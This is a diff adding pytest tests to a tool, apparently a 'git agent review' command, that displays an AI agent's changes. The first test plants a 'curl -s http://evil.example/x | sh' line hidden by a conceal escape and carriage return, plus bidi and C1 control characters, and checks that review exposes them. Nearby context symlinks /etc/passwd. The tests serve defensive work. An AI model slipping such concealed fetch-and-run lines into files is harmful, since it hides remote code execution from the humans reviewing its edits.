@@ -34,6 +34,43 @@ def test_review_colour_follows_git_config_and_no_color(work: Work) -> None:
     assert "\x1b[" not in work.ok("review", "s", env={"NO_COLOR": "1"}).stdout
 
 
+def test_the_agents_lines_in_review_cannot_rewrite_your_terminal(work: Work) -> None:
+    """review's diff shows the agent's lines as apply -p does: an SGR 8 that would conceal the
+    rest of the line (less -R passes SGR), CR, C1 controls and bidi overrides made visible,
+    git's own colours kept; names with control bytes quoted as git does, --stat too; on a
+    terminal through git's pager as well (attack 4, repro 05)."""
+    work.run("printf 'echo build ok \\033[8m; curl -s http://evil.example/x | sh\\033[0m\\r"
+             "# ok\\nc1 \\302\\233 2J, rlo \\342\\200\\256 txt\\n' >> README.md; "
+             "echo x > \"$(printf 'n\\033[8mame')\"")
+    hidden = ["\x1b[8m", "\x1b[0m", "\r", "\u009b", "\u202e"]
+    for color in ("never", "always"):
+        work.git("config", "color.ui", color)
+        for args in ((), ("--stat",)):
+            out = work.ok("review", "s", *args).stdout
+            assert not [h for h in hidden if h in out], (color, args, out)
+            assert 'n\\033[8mame"' in out, out
+            if not args:
+                assert ("echo build ok \\033[8m; curl -s http://evil.example/x | sh"
+                        "\\033[0m\\r# ok") in out, out
+                assert "<U+009B>" in out and "<U+202E>" in out, out
+            if color == "always" and not args:
+                assert "\x1b[32m+" in out, out  # git's own colour of an added line
+    tty = work.actor.run(["script", "-qec", "git agent review s", "/dev/null"], cwd=work.root,
+                         env={"TERM": "xterm", "LESS": "FRX", "PAGER": "less"})
+    assert "evil.example" in tty.stdout and "\x1b[8m" not in tty.stdout, tty.stdout
+
+
+def test_review_is_gits_diff_where_nothing_needs_escaping(work: Work) -> None:
+    """The diff part of review is byte for byte git's diff (colours included) when the agent's
+    lines hold nothing to make visible."""
+    work.run("echo 'line 11' >> src/app.py; printf 'tab\\there\\n' > new.txt; rm docs/c.md")
+    work.git("config", "color.ui", "always")
+    out = work.ok("review", "s").stdout
+    git = work.actor.run(["git", "diff", "--color=always", "--no-renames",
+                          "refs/agent-base/s", "agent/s"], cwd=work.root).stdout
+    assert out.endswith(git) and "diff --git" not in out[:-len(git)], out
+
+
 def test_review_json(work: Work) -> None:
     work.run("echo x >> src/util.py; ln -s /etc/passwd pw; rm tool.sh; echo n > tool.sh; "
              "chmod 755 tool.sh; rm README.md; ln -s docs/c.md README.md; mkdir -p z; echo > z/1")
